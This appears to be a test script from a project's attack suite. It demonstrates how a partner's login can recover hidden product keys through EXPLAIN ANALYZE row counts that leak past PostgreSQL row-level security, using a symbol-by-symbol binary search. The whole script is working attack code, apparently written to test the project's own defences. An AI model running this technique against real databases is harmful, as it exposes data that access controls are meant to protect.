-- Attack 1a, the full demonstration (test/shell/attacks.sh): run as a
-- partner's login, recovers the least product key the login may not see,
-- from EXPLAIN ANALYZE alone.  With seq and bitmap scans off, a query on
-- key_card with product_key < v is an index range scan whose rows are then
-- filtered by row-level security; "Rows Removed by Filter" counts the hidden
-- keys below v.  The least hidden key K is then found symbol by symbol: at
-- each position, the greatest symbol s for which no hidden key is below
-- prefix || s || '222...' (symbols in key order: the "C" order of the
-- canonical text, 2 < ... < 9 < B < ... < Y; at most one N in a key, K1).
-- The relation is por_partner_book.key_card when it exists (0.3.0), else
-- por_partner.key_card.
-- Output: one line  key  probes  (the key as recovered, or empty)
\set QUIET on
\pset format unaligned
\pset tuples_only on
\pset fieldsep '\t'
SET search_path = pg_catalog, por_partner, pg_temp;
SET jit = off;
SET enable_seqscan = off;
SET enable_bitmapscan = off;

CREATE FUNCTION pg_temp.hidden_below(rel text, v text) RETURNS bigint LANGUAGE plpgsql AS $$
DECLARE
	l text;
	n bigint := 0;
BEGIN
	FOR l IN EXECUTE format('EXPLAIN (ANALYZE, COSTS OFF, TIMING OFF, SUMMARY OFF) SELECT 1 FROM %s WHERE product_key < %L::por_partner.product_key',
	                        rel, v) LOOP
		n := n + coalesce(substring(l FROM 'Rows Removed by Filter: ([0-9]+)')::bigint, 0);
	END LOOP;
	RETURN n;
EXCEPTION WHEN OTHERS THEN
	RETURN NULL;
END $$;

CREATE FUNCTION pg_temp.recover(rel text, OUT key text, OUT probes int) LANGUAGE plpgsql AS $$
DECLARE
	symbols text := '2346789BCDFGHJKMNPQRTVWXY';
	prefix text := '';
	cand text;
	lo int;
	hi int;
	mid int;
	c bigint;
BEGIN
	probes := 0;
	FOR pos IN 1..25 LOOP
		cand := CASE WHEN prefix LIKE '%N%' THEN replace(symbols, 'N', '') ELSE symbols END;
		lo := 1;			-- the greatest index known to leave no hidden key below
		hi := length(cand);
		WHILE lo < hi LOOP
			mid := (lo + hi + 1) / 2;
			c := pg_temp.hidden_below(rel, regexp_replace(prefix || substr(cand, mid, 1) || repeat('2', 25 - pos),
			                                             '(.{5})(?!$)', '\1-', 'g'));
			probes := probes + 1;
			IF c IS NULL THEN
				RETURN;
			END IF;
			IF c = 0 THEN lo := mid; ELSE hi := mid - 1; END IF;
		END LOOP;
		prefix := prefix || substr(cand, lo, 1);
	END LOOP;
	key := regexp_replace(prefix, '(.{5})(?!$)', '\1-', 'g');
END $$;

SELECT * FROM pg_temp.recover(coalesce(to_regclass('por_partner_book.key_card'), 'por_partner.key_card')::text);
